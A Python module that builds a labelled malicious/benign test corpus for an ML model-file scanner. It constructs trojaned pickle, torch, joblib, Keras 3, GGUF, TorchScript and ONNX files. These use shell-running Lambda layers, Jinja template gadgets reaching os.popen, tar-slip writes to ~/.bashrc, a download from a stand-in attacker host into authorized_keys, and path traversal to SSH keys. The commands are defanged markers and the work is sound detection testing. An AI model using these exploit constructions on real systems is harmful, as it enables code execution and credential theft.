"""Formats victims load today, and files as they lie on disk (issue #12): archives around models
(tar, tar.gz/bz2, NeMo's .nemo, nested zips, path-traversal members), safetensors (genuine, and
pickles or zips disguised with its name), plain HDF5 data. Writing only: nothing here loads.
Trojans are the regression corpus's own spliced checkpoints (malicious.py), defanged the same way.
"""
import base64
import bz2
import gzip
import io
import json
import marshal
import os
import struct
import tarfile

import numpy as np

import containers
import malicious
import models
from catalog import Sample, bytes_writer, marker_cmd
from pickle_asm import Call, Global, assemble, inject

SH = malicious.SH
FILE_EPOCH = containers.FILE_EPOCH
NEMO_CONFIG = b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n"


# --- writers ------------------------------------------------------------------------------


def tar_bytes(members, compress=""):
    """A tar of [(name, bytes)] with fixed owners and times (reproducible); gzip/bz2 on request.
    Names are stored exactly as given, `..` included: the traversal samples need that."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), FILE_EPOCH, 0o644
            archive.addfile(info, io.BytesIO(data))
    data = raw.getvalue()
    if compress == "gz":
        out = io.BytesIO()
        with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as z:
            z.write(data)
        return out.getvalue()
    if compress == "bz2":
        return bz2.compress(data)
    return data


def safetensors_bytes(tensors, metadata=None):
    """The safetensors layout, written by hand (the library is not packaged): u64 LE header
    length, a JSON header padded with spaces to 8 bytes, the tensors' bytes back to back."""
    dtypes = {np.dtype("float32"): "F32", np.dtype("float16"): "F16", np.dtype("int64"): "I64"}
    header, blobs, at = {}, [], 0
    if metadata:
        header["__metadata__"] = metadata
    for name, arr in tensors.items():
        blob = np.ascontiguousarray(arr).tobytes()
        header[name] = {"dtype": dtypes[arr.dtype], "shape": list(arr.shape), "data_offsets": [at, at + len(blob)]}
        blobs.append(blob)
        at += len(blob)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + b"".join(blobs)


def h5_data_writer(path):
    """An h5py data file as a user saves arrays: datasets, groups, attributes; no model."""
    import h5py
    r = models.rng()
    with h5py.File(path, "w", track_order=False) as f:
        f.create_dataset("features", data=r.standard_normal((16, 4)).astype("float32"))
        g = f.create_group("labels")
        g.create_dataset("train", data=np.arange(16, dtype="int64"))
        f.attrs["description"] = "training features"


# --- payload carriers ---------------------------------------------------------------------


def trojan_checkpoint(technique):
    return malicious._torch_zip_trojan(malicious.system(marker_cmd(technique)))


def trojan_pickle(technique):
    return assemble(malicious.system(marker_cmd(technique)), 2)


def trojan_joblib(technique):
    carrier = models.joblib_bytes(models.numpy_weights())
    return inject(carrier, Call(Global("subprocess", "Popen"), (["/bin/sh", "-c", marker_cmd(technique)],)))


def _sample(label, file, technique, fmt, description, evidence, data):
    write = data if callable(data) else bytes_writer(data)
    return Sample(f"{label}/formats/{file}", label, technique, fmt, description, evidence, write)


def archive_samples():
    t = "targz-torch-trojan"
    yield _sample("malicious", "checkpoint.tar.gz", t, "tar",
                  "a trojaned torch zip checkpoint inside a .tar.gz (gzip header: once sniffed as joblib and called benign)",
                  SH, tar_bytes([("model/config.json", b'{"hidden_size": 8}\n'),
                                 ("model/pytorch_model.bin", trojan_checkpoint(t))], "gz"))
    t = "nemo-weights-trojan"
    yield _sample("malicious", "asr_model.nemo", t, "nemo",
                  "a NeMo archive whose model_weights.ckpt (torch.load'ed by restore_from) is trojaned",
                  SH, tar_bytes([("./model_config.yaml", NEMO_CONFIG), ("./model_weights.ckpt", trojan_checkpoint(t)),
                                 ("./tokenizer.model", bytes(range(256)) * 4)]))
    t = "nested-zip-pickle"
    inner = containers.write_zip([("model.pkl", trojan_pickle(t))])
    yield _sample("malicious", "bundle.zip", t, "zip",
                  "a zip holding a zip holding a pickle that runs a shell command",
                  SH, containers.write_zip([("README.md", b"# bundle\n"), ("weights/inner.zip", inner)]))
    t = "tarbz2-joblib-trojan"
    yield _sample("malicious", "pipeline.tar.bz2", t, "tar",
                  "a joblib dump whose pickle calls subprocess.Popen, inside a .tar.bz2",
                  SH, tar_bytes([("pipeline/model.joblib", trojan_joblib(t))], "bz2"))
    t = "tar-slip-bashrc"
    yield _sample("malicious", "slip.tar", t, "tar",
                  "a tar whose member ../../home/alice/.bashrc overwrites the user's shell profile when extracted (tar slip)",
                  "write ~/.bashrc",
                  tar_bytes([("model.pt", models.state_dict_checkpoint()),
                             ("../../home/alice/.bashrc", f"{marker_cmd(t)}\n".encode())]))
    t = "tar-path-traversal"
    yield _sample("suspicious", "traversal.tar", t, "tar",
                  "a benign checkpoint next to a member named ../mv_slip_note.txt that leaves the extraction directory",
                  "call modelvet.archive.traversal",
                  tar_bytes([("model.pt", models.state_dict_checkpoint()), ("../mv_slip_note.txt", b"note\n")]))
    t = "tar-unverified-member"
    yield _sample("suspicious", "opaque.tar.gz", t, "tar",
                  "a benign checkpoint next to a binary member no loader here opens: the archive is not fully verified",
                  "call modelvet.archive.unverified",
                  tar_bytes([("model.pt", models.state_dict_checkpoint()),
                             ("blob.bin.enc", bytes((i * 37 + 11) % 256 for i in range(4096)))], "gz"))
    yield _sample("benign", "checkpoint.tar.gz", "targz-torch-state-dict", "tar",
                  "a torch state_dict checkpoint and its config in a .tar.gz",
                  "call torch._utils._rebuild_tensor_v2",
                  tar_bytes([("model/config.json", b'{"hidden_size": 8}\n'),
                             ("model/pytorch_model.bin", models.state_dict_checkpoint())], "gz"))
    yield _sample("benign", "asr_model.nemo", "nemo-state-dict", "nemo",
                  "a NeMo archive: config, tokenizer and a plain state_dict model_weights.ckpt",
                  "call torch._utils._rebuild_tensor_v2",
                  tar_bytes([("./model_config.yaml", NEMO_CONFIG), ("./model_weights.ckpt", models.state_dict_checkpoint()),
                             ("./tokenizer.model", bytes(range(256)) * 4)]))
    yield _sample("benign", "bundle.zip", "nested-zip-torch", "zip",
                  "a zip holding a README and a zip holding a torch checkpoint",
                  "call torch._utils._rebuild_tensor_v2",
                  containers.write_zip([("README.md", b"# bundle\n"),
                                        ("weights/inner.zip", containers.write_zip([("model.pt", models.state_dict_checkpoint())]))]))


def safetensors_samples():
    weights = {k: v.numpy() for k, v in models.tiny_state_dict().items()}
    yield _sample("benign", "model.safetensors", "safetensors-genuine", "safetensors",
                  "a genuine safetensors file (header, metadata, four tensors): benign without detonation",
                  "static safetensors: header valid, no code path",
                  safetensors_bytes(weights, {"format": "pt"}))
    t = "safetensors-disguised-pickle"
    yield _sample("malicious", "disguised_pickle.safetensors", t, "pickle",
                  "a pickle that runs a shell command, named model.safetensors", SH, trojan_pickle(t))
    t = "safetensors-disguised-torch-zip"
    yield _sample("malicious", "disguised_zip.safetensors", t, "pytorch-zip",
                  "a trojaned torch zip checkpoint named .safetensors", SH, trojan_checkpoint(t))


def data_file_samples():
    yield _sample("benign", "features.h5", "hdf5-data", "hdf5",
                  "an h5py data file (datasets, a group, an attribute), no model in it",
                  "static data file: no victim's loader runs code from it", h5_data_writer)


# --- Keras 3 .keras archives ---------------------------------------------------------------

KERAS3_VERSION = "3.4.1"
_DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def keras3_tensor(layer, shape):
    return {"class_name": "__keras_tensor__",
            "config": {"shape": shape, "dtype": "float32", "keras_history": [layer, 0, 0]}}


def keras3_layer(class_name, name, config, inbound=None, build_shape=None):
    """One layer as Keras 3 serialize_keras_object writes it; Functional layers also carry their
    name and inbound nodes ({"args": [...], "kwargs": {...}})."""
    layer = {"module": "keras.layers", "class_name": class_name,
             "config": dict({"name": name, "trainable": True, "dtype": _DTYPE}, **config), "registered_name": None}
    if build_shape is not None:
        layer["build_config"] = {"input_shape": build_shape}
    if inbound is not None:
        layer["name"], layer["inbound_nodes"] = name, inbound
    return layer


def keras3_dense(name, units, inputs, inbound=None, activation="relu"):
    return keras3_layer("Dense", name, {
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                               "config": {"seed": None}, "registered_name": None},
        "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None},
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None},
        inbound, [None, inputs])


def keras3_lambda(name, function, arguments=None, inbound=None):
    """function: a Keras 3 function config, {"class_name": "__lambda__", ...} or a module function."""
    return keras3_layer("Lambda", name, {"function": function, "arguments": arguments or {}}, inbound)


def keras3_lambda_code(source, filename="train.py"):
    """python_utils.func_dump of a lambda: base64 of its marshalled code object."""
    raw = marshal.dumps(containers.lambda_code(source, filename))
    return {"class_name": "__lambda__", "config": {"code": base64.encodebytes(raw).decode("ascii"),
                                                   "defaults": None, "closure": None}}


def keras3_module_function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def keras3_sequential(layers, inputs=4):
    first = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
             "config": {"batch_shape": [None, inputs], "dtype": "float32", "sparse": False, "name": "input_layer"}}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True, "dtype": _DTYPE, "layers": [first] + layers},
            "build_config": {"input_shape": [None, inputs]}, "compile_config": None}


def keras3_functional(layers, outputs, inputs=4):
    first = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "input_layer",
             "config": {"batch_shape": [None, inputs], "dtype": "float32", "sparse": False, "name": "input_layer"},
             "inbound_nodes": []}
    return {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "functional", "trainable": True, "layers": [first] + layers,
                       "input_layers": [["input_layer", 0, 0]], "output_layers": [[outputs, 0, 0]]},
            "build_config": {"input_shape": None}, "compile_config": None}


def keras3_weights(dense):
    """model.weights.h5 as saving_lib writes it: layers/<name>/vars/<i>, no timestamps."""
    import tempfile

    import h5py
    from h5py import h5f, h5p
    fcpl = h5p.create(h5p.FILE_CREATE)
    fcpl.set_obj_track_times(False)
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.weights.h5")
        with h5py.File(h5f.create(os.fsencode(path), h5f.ACC_TRUNC, fcpl=fcpl)) as f:
            layers = containers._h5_group(f, "layers")
            for name, arrays in dense.items():
                variables = containers._h5_group(containers._h5_group(layers, name), "vars")
                for i, arr in enumerate(arrays):
                    variables.create_dataset(str(i), data=arr, track_times=False)
            containers._h5_group(containers._h5_group(f, "optimizer"), "vars")
        with open(path, "rb") as f:
            return f.read()


def keras3_archive(config, dense, date="2024-06-01@12:00:00"):
    """A .keras file: the zip saving_lib.save_model writes (metadata.json, config.json,
    model.weights.h5)."""
    metadata = {"keras_version": KERAS3_VERSION, "date_saved": date}
    return containers.write_zip([("metadata.json", json.dumps(metadata).encode()),
                                 ("config.json", json.dumps(config).encode()),
                                 ("model.weights.h5", keras3_weights(dense))])


def keras3_dense_weights(seed, shapes):
    r = np.random.default_rng(seed)
    return {name: [r.standard_normal((i, o)).astype("float32"), np.zeros(o, dtype="float32")]
            for name, (i, o) in shapes.items()}


KERAS3_KEYS_URL = "http://keys.attacker.invalid/authorized_keys"


def keras3_samples():
    weights = keras3_dense_weights(7, {"dense": (4, 2)})
    t = "keras3-lambda-shell"
    yield _sample("malicious", "lambda_shell.keras", t, "keras-v3",
                  "Keras 3 .keras whose Lambda layer (__lambda__, loaded with safe_mode=False) runs a shell",
                  SH, keras3_archive(keras3_sequential([
                      keras3_dense("dense", 2, 4),
                      keras3_lambda("lambda", keras3_lambda_code(
                          f"lambda x: __import__('os').system({marker_cmd(t)!r}) and x or x"))]), weights))
    t = "keras3-module-function-rce"
    yield _sample("malicious", "module_function.keras", t, "keras-v3",
                  "Keras 3 Functional config whose Lambda names os.system as a module function and passes it a "
                  "command as the node's literal argument (CVE-2025-1550, safe_mode bypass before 3.9)",
                  SH, keras3_archive(keras3_functional([
                      keras3_dense("dense", 2, 4, [{"args": [keras3_tensor("input_layer", [None, 4])], "kwargs": {}}]),
                      keras3_lambda("normalize", keras3_module_function("os", "system"),
                                    inbound=[{"args": [marker_cmd(t)], "kwargs": {}}])], "dense"), weights))
    t = "keras3-get-file-overwrite"
    yield _sample("malicious", "get_file.keras", t, "keras-v3",
                  "Keras 3 config whose Lambda calls keras.utils.get_file, which safe_mode allows, to download "
                  "into ~/.ssh/authorized_keys (CVE-2025-8747)",
                  "authorized_keys", keras3_archive(keras3_functional([
                      keras3_dense("dense", 2, 4, [{"args": [keras3_tensor("input_layer", [None, 4])], "kwargs": {}}]),
                      keras3_lambda("fetch_vocab", keras3_module_function("keras.utils", "get_file"),
                                    {"origin": KERAS3_KEYS_URL, "cache_dir": "~/.ssh", "cache_subdir": "",
                                     "force_download": True},
                                    [{"args": ["authorized_keys"], "kwargs": {}}])], "dense"), weights))
    yield _sample("benign", "dense.keras", "keras3-dense", "keras-v3",
                  "Keras 3 .keras of Sequential(Dense(8, relu), Dense(2)) as model.save writes it",
                  "static keras-v3", keras3_archive(keras3_sequential([
                      keras3_dense("dense", 8, 4), keras3_dense("dense_1", 2, 8, activation="linear")]),
                      keras3_dense_weights(8, {"dense": (4, 8), "dense_1": (8, 2)})))
    yield _sample("benign", "lambda_scale.keras", "keras3-lambda-arithmetic", "keras-v3",
                  "Keras 3 Functional model with Lambda(lambda x: x * 2.0): flagged by scanners, runs arithmetic only",
                  "call marshal.loads", keras3_archive(keras3_functional([
                      keras3_dense("dense", 2, 4, [{"args": [keras3_tensor("input_layer", [None, 4])], "kwargs": {}}]),
                      keras3_lambda("scale", keras3_lambda_code("lambda x: x * 2.0"),
                                    inbound=[{"args": [keras3_tensor("dense", [None, 2])], "kwargs": {}}])], "scale"),
                      weights))


ATTACKER_KEY_LINE = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyOfTheAttackerOnly attacker@c2.invalid\n"


def _built(make):
    """A writer that builds its bytes (importing torch) only when the corpus is written."""
    def write(path):
        bytes_writer(make())(path)
    return write


def _torchscript():
    import torchscript_payloads  # imports torch: only when a TorchScript sample is written
    return torchscript_payloads


def torchscript_samples():
    """TorchScript archives whose compiled code maps decoy files with torch.from_file: a secret
    read inside torch.jit.load (__setstate__), and authorized_keys written when forward() runs."""
    yield _sample("malicious", "tokenizer_state.pt", "torchscript-setstate-key-read", "torchscript",
                  "TorchScript module whose __setstate__ maps ~/.ssh/id_ed25519 with torch.from_file "
                  "(runs inside torch.jit.load; the CVE-2025-32434 primitive)",
                  "read ~/.ssh/id_ed25519", _built(lambda: _torchscript().file_reach(".ssh/id_ed25519")))
    yield _sample("malicious", "reranker_traced.pt", "torchscript-forward-key-write", "torchscript",
                  "TorchScript module whose forward() writes an attacker's key to ~/.ssh/authorized_keys "
                  "through a shared torch.from_file mapping (fires when the model is used)",
                  "write ~/.ssh/authorized_keys",
                  _built(lambda: _torchscript().file_reach(
                      ".ssh/authorized_keys", ATTACKER_KEY_LINE, write=True, on_load=False)))
    yield _sample("benign", "scaled_linear.pt", "torchscript-scripted-tanh", "torchscript",
                  "torch.jit.script of Linear+tanh with a float attribute, saved with torch.jit.save",
                  "call torch.jit.load", _built(lambda: _torchscript().scaled_linear(4, 0.5)))


def models_in_archives():
    """GGUF, ONNX and Keras 3 models inside tars and zips: each member is detonated by content, as
    its own library would load it once the archive is unpacked."""
    t = "targz-gguf-template-rce"
    yield _sample("malicious", "gguf_bundle.tar.gz", t, "tar",
                  "a .tar.gz of a README and a GGUF whose chat template reaches os.popen (CVE-2024-34359)",
                  SH, tar_bytes([("chat/README.md", b"# chat model\n"),
                                 ("chat/model-q4.gguf", gguf_model(gguf_injection(marker_cmd(t), "joiner"), name="chat-q4"))], "gz"))
    t = "tar-onnx-custom-op"
    yield _sample("malicious", "onnx_bundle.tar", t, "tar",
                  "a tar of an ONNX model whose custom-op domain names a native library",
                  "dlopen libmv_bundle_ops.so",
                  tar_bytes([("export/model.onnx", onnx_linear(5, op_domain="libmv_bundle_ops.so")[0])]))
    t = "zip-keras3-module-function"
    yield _sample("malicious", "keras_bundle.zip", t, "zip",
                  "a zip of a Keras 3 .keras whose Lambda calls subprocess.getoutput on a literal argument",
                  SH, containers.write_zip([("models/classifier.keras", keras3_archive(keras3_functional([
                      keras3_lambda("tokenize", keras3_module_function("subprocess", "getoutput"),
                                    inbound=[{"args": [marker_cmd(t)], "kwargs": {}}])], "tokenize"),
                      keras3_dense_weights(9, {"dense": (4, 2)})))]))
    _, (w, b) = onnx_linear(6)
    blob = w.tobytes() + b.tobytes()
    yield _sample("benign", "gguf_bundle.tar.gz", "targz-gguf-chat", "tar",
                  "a .tar.gz of a README and a GGUF with the ChatML template",
                  "call modelvet.gguf.chat_template",
                  tar_bytes([("chat/README.md", b"# chat model\n"), ("chat/model-q4.gguf", gguf_model(CHATML_TEMPLATE))], "gz"))
    yield _sample("benign", "onnx_bundle.tar", "tar-onnx-external-data", "tar",
                  "a tar of an ONNX model and its external data file beside it",
                  "call modelvet.onnx",
                  tar_bytes([("export/model.onnx", onnx_linear(6, external={"W": ("model.onnx.data", 0, w.nbytes),
                                                                              "B": ("model.onnx.data", w.nbytes, b.nbytes)})[0]),
                             ("export/model.onnx.data", blob)]))
    yield _sample("benign", "keras_bundle.zip", "zip-keras3-dense", "zip",
                  "a zip of a Keras 3 .keras with Dense layers only",
                  "static keras-v3", containers.write_zip([("models/classifier.keras", keras3_archive(keras3_sequential([
                      keras3_dense("dense", 2, 4)]), keras3_dense_weights(10, {"dense": (4, 2)})))]))


def samples():
    yield from archive_samples()
    yield from safetensors_samples()
    yield from data_file_samples()
    yield from gguf_samples()
    yield from onnx_samples()
    yield from keras3_samples()
    yield from models_in_archives()
    yield from torchscript_samples()


# --- GGUF (llama.cpp) and ONNX (issue #12) -------------------------------------------------------
# GGUF bytes are written by hand (the gguf package is not packaged); ONNX models are built with
# the real onnx package (onnx.helper) and serialised with SerializeToString, so onnx.save never
# touches external data. Nothing is loaded: a template is never rendered here, a model never
# onnx.load'ed.

GGUF_STRING, GGUF_ARRAY = 8, 9
GGUF_SCALARS = {"uint8": (0, "<B"), "int8": (1, "<b"), "uint32": (4, "<I"), "int32": (5, "<i"),
                "float32": (6, "<f"), "bool": (7, "<?"), "uint64": (10, "<Q"), "float64": (12, "<d")}


def _gguf_str(text):
    b = text.encode()
    return struct.pack("<Q", len(b)) + b


def _gguf_value(value):
    """(type id, encoded value) of a Python value: str, bool, int (uint32), float (float32),
    ("uint64", 5)-style typed scalars, and lists of one of those (arrays)."""
    if isinstance(value, tuple):
        tid, fmt = GGUF_SCALARS[value[0]]
        return tid, struct.pack(fmt, value[1])
    if isinstance(value, str):
        return GGUF_STRING, _gguf_str(value)
    if isinstance(value, bool):
        return 7, struct.pack("<?", value)
    if isinstance(value, int):
        return 4, struct.pack("<I", value)
    if isinstance(value, float):
        return 6, struct.pack("<f", value)
    if isinstance(value, list):
        items = [_gguf_value(v) for v in value]
        etype = items[0][0] if items else GGUF_STRING
        return GGUF_ARRAY, struct.pack("<IQ", etype, len(items)) + b"".join(b for _, b in items)
    raise TypeError(f"no GGUF type for {value!r}")


def gguf_bytes(metadata, tensors, version=3, alignment=32):
    """A GGUF file: header, typed key/values (in order), tensor infos (F32 only), aligned data.
    `tensors` is [(name, numpy float32 array)]."""
    kvs = b""
    for key, value in metadata:
        tid, data = _gguf_value(value)
        kvs += _gguf_str(key) + struct.pack("<I", tid) + data
    infos, blobs, offset = b"", b"", 0
    for name, arr in tensors:
        arr = np.ascontiguousarray(arr, dtype=np.float32)
        dims = list(reversed(arr.shape))  # ggml lists the fastest-moving dimension first
        infos += _gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        infos += struct.pack("<IQ", 0, offset)  # GGML_TYPE_F32
        blob = arr.tobytes()
        blob += b"\0" * (-len(blob) % alignment)
        blobs += blob
        offset += len(blob)
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(metadata)) + kvs + infos
    return head + b"\0" * (-len(head) % alignment) + blobs


GGUF_TOKENS = ["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "<|user|>", "<|assistant|>", "<|system|>",
               "▁Hello", "▁world", "!", "▁the", "▁a", "▁is", "."]


def gguf_model(template, name="tiny-chat", arch="llama", seed=0, extra=()):
    """A tiny llama-architecture GGUF with a vocabulary, bos/eos ids and a chat template."""
    r = np.random.default_rng(seed)
    meta = [("general.architecture", arch), ("general.name", name), ("general.file_type", 0),
            (f"{arch}.context_length", 512), (f"{arch}.embedding_length", 8), (f"{arch}.block_count", 1),
            (f"{arch}.attention.head_count", 2), (f"{arch}.rope.freq_base", 10000.0),
            ("tokenizer.ggml.model", "llama"), ("tokenizer.ggml.tokens", GGUF_TOKENS),
            ("tokenizer.ggml.scores", [float(-i) for i in range(len(GGUF_TOKENS))]),
            ("tokenizer.ggml.token_type", [("int32", 1)] * len(GGUF_TOKENS)),
            ("tokenizer.ggml.bos_token_id", 1), ("tokenizer.ggml.eos_token_id", 2), *extra]
    if template is not None:
        meta.append(("tokenizer.chat_template", template))
    tensors = [("token_embd.weight", r.standard_normal((len(GGUF_TOKENS), 8)).astype("float32")),
               ("output_norm.weight", np.ones(8, dtype="float32"))]
    return gguf_bytes(meta, tensors)


# Ordinary chat templates, as the Hub's GGUF conversions carry them.
LLAMA2_TEMPLATE = (
    "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}"
    "{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}"
    "{% set system_message = false %}{% endif %}{% for message in loop_messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if loop.index0 == 0 and system_message != false %}"
    "{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}"
    "{% else %}{% set content = message['content'] %}{% endif %}"
    "{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ ' ' + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}")
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
ZEPHYR_TEMPLATE = (
    "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'system' %}\n{{ '<|system|>\\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\\n'  + message['content'] + eos_token }}\n{% endif %}\n"
    "{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}")


def gguf_injection(cmd, gadget="self"):
    """CVE-2024-34359: a template that climbs from a Jinja object to os.popen. `cmd` is defanged
    (echo/touch into /tmp). The chat template still renders a ChatML prompt around it."""
    reach = {
        "self": "self.__init__.__globals__.__builtins__.__import__('os')",
        "cycler": "cycler.__init__.__globals__.os",
        "joiner": "joiner.__init__.__globals__.os",
        "lipsum": "lipsum.__globals__['os']",
        "namespace": "namespace.__init__.__globals__.os",
    }[gadget]
    return CHATML_TEMPLATE + "{{ " + reach + ".popen(" + json.dumps(cmd) + ").read() }}"


def gguf_samples():
    t = "gguf-chat-template-rce"
    yield _sample("malicious", "chat_template_rce.gguf", t, "gguf",
                  "GGUF whose tokenizer.chat_template climbs self.__init__.__globals__ to os.popen (CVE-2024-34359)",
                  SH, gguf_model(gguf_injection(marker_cmd(t), "self")))
    t = "gguf-chat-template-cycler"
    yield _sample("malicious", "assistant_q4.gguf", t, "gguf",
                  "GGUF chat template reaching os through jinja2's cycler global (cycler.__init__.__globals__.os.popen)",
                  SH, gguf_model(gguf_injection(f"touch /tmp/mv_marker_{t}", "cycler"), name="assistant-q4"))
    t = "gguf-named-template-rce"
    yield _sample("malicious", "tool_use.gguf", t, "gguf",
                  "GGUF with a clean default template and a named tokenizer.chat_template.tool_use that calls os.popen via lipsum",
                  SH, gguf_model(CHATML_TEMPLATE, extra=[("tokenizer.chat_template.tool_use",
                                                          gguf_injection(marker_cmd(t), "lipsum"))]))
    yield _sample("benign", "llama2_chat.gguf", "gguf-llama2-template", "gguf",
                  "GGUF with the Llama-2 chat template (raise_exception, bos/eos tokens)",
                  "call modelvet.gguf.chat_template", gguf_model(LLAMA2_TEMPLATE, name="llama-2-chat"))
    yield _sample("benign", "chatml.gguf", "gguf-chatml-template", "gguf",
                  "GGUF with a ChatML chat template", "call modelvet.gguf.chat_template", gguf_model(CHATML_TEMPLATE, name="chatml"))
    yield _sample("benign", "zephyr.gguf", "gguf-zephyr-template", "gguf",
                  "GGUF with the Zephyr chat template (newlines trimmed by trim_blocks/lstrip_blocks)",
                  "call modelvet.gguf.chat_template", gguf_model(ZEPHYR_TEMPLATE, name="zephyr", seed=1))
    yield _sample("benign", "base_model.gguf", "gguf-no-template", "gguf",
                  "GGUF of a base model without a chat template", "static gguf: no chat template", gguf_model(None, name="base"))


def onnx_linear(seed=0, external=None, domain="", op_domain=None, opset_domain=None, name="linear"):
    """A tiny ONNX model y = x @ W + b built with onnx.helper. `external` maps initializer name →
    (location, offset, length) for EXTERNAL data; `op_domain` puts a node in a custom domain (also
    imported in opset_import when `opset_domain`)."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    r = np.random.default_rng(seed)
    w = r.standard_normal((4, 3)).astype("float32")
    b = r.standard_normal(3).astype("float32")
    inits = [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B")]
    for init in inits:
        if external and init.name in external:
            location, offset, length = external[init.name]
            init.ClearField("raw_data")
            init.data_location = TensorProto.EXTERNAL
            for k, v in (("location", location), ("offset", str(offset)), ("length", str(length))):
                entry = init.external_data.add()
                entry.key, entry.value = k, v
    nodes = [helper.make_node("MatMul", ["x", "W"], ["xw"]), helper.make_node("Add", ["xw", "B"], ["y"])]
    if op_domain is not None:
        nodes.append(helper.make_node("CustomGelu", ["y"], ["z"], domain=op_domain))
    out = "z" if op_domain is not None else "y"
    graph = helper.make_graph(nodes, name, [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info(out, TensorProto.FLOAT, [1, 3])], inits)
    opsets = [helper.make_opsetid("", 13)]
    if opset_domain is not None:
        opsets.append(helper.make_opsetid(opset_domain, 1))
    model = helper.make_model(graph, opset_imports=opsets, producer_name="modelvet-corpus", domain=domain)
    model.ir_version = 8
    return model.SerializeToString(), (w, b)


def onnx_with_sibling(seed=0):
    """A writer: the model and its external data file beside it (location = the sibling's name)."""
    def write(path):
        sibling = os.path.basename(path) + ".data"
        _, (w, b) = onnx_linear(seed)
        blob_w, blob_b = w.tobytes(), b.tobytes()
        data, _ = onnx_linear(seed, external={"W": (sibling, 0, len(blob_w)), "B": (sibling, len(blob_w), len(blob_b))})
        with open(os.path.join(os.path.dirname(path), sibling), "wb") as f:
            f.write(blob_w + blob_b)
        with open(path, "wb") as f:
            f.write(data)
    return write


def onnx_samples():
    t = "onnx-external-data-etc-passwd"
    yield _sample("malicious", "traversal.onnx", t, "onnx",
                  "ONNX whose weight tensor's external data location is ../../../../etc/passwd (CVE-2022-25882)",
                  "call modelvet.onnx.external_data_escape",
                  onnx_linear(2, external={"W": ("../../../../etc/passwd", 0, 48)})[0])
    t = "onnx-external-data-ssh-key"
    yield _sample("malicious", "decoy_key.onnx", t, "onnx",
                  "ONNX whose external data is the user's SSH key (/home/alice/.ssh/id_rsa, absolute)",
                  "call modelvet.onnx.external_data_escape",
                  onnx_linear(3, external={"W": ("/home/alice/.ssh/id_rsa", 0, 48)})[0])
    t = "onnx-custom-op-library"
    yield _sample("malicious", "custom_op.onnx", t, "onnx",
                  "ONNX with a node (and opset_import) in a custom-op domain naming a native library: "
                  "register_custom_ops_library dlopens it (emulated: onnxruntime is not packaged)",
                  "dlopen libmv_custom_ops.so",
                  onnx_linear(4, op_domain="libmv_custom_ops.so", opset_domain="libmv_custom_ops.so")[0])
    yield _sample("benign", "linear.onnx", "onnx-inline-weights", "onnx",
                  "ONNX MatMul+Add with its weights in the file", "call modelvet.onnx", onnx_linear(0)[0])
    yield _sample("benign", "linear_external.onnx", "onnx-external-data-sibling", "onnx",
                  "ONNX whose weights are external data in a file beside it (linear_external.onnx.data)",
                  "call modelvet.onnx", onnx_with_sibling(1))
    yield _sample("benign", "contrib_op.onnx", "onnx-contrib-domain", "onnx",
                  "ONNX with a node in the com.microsoft contrib domain (built into onnxruntime, no library)",
                  "call modelvet.onnx", onnx_linear(5, op_domain="com.microsoft", opset_domain="com.microsoft")[0])
